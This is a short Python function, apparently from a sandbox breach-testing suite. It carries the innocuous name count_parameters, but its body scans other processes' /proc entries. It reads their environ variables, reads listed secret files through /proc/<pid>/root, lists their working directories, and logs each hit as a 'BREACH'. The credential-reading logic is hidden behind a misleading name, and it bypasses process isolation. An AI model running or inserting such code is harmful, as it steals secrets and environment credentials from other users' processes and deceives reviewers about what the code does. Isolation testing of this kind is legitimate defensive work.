def count_parameters(model):
    """A7: reach hidden files through other processes' /proc entries (cwd, root, environ)."""
    for pid in filter(str.isdigit, _os.listdir("/proc")):
        if int(pid) == _os.getpid():
            continue
        for path in [f"/proc/{pid}/environ",
                     *(f"/proc/{pid}/root{s}" for s in TARGETS["secrets"])]:
            try:
                with open(path, "rb") as f:
                    data = f.read(40)
                if data:
                    _report(f"BREACH read {path}: {data!r}")
            except OSError:
                pass
        try:
            _report(f"BREACH listed /proc/{pid}/cwd: {_os.listdir(f'/proc/{pid}/cwd')[:5]}")
        except OSError:
            pass
    raise NotImplementedError
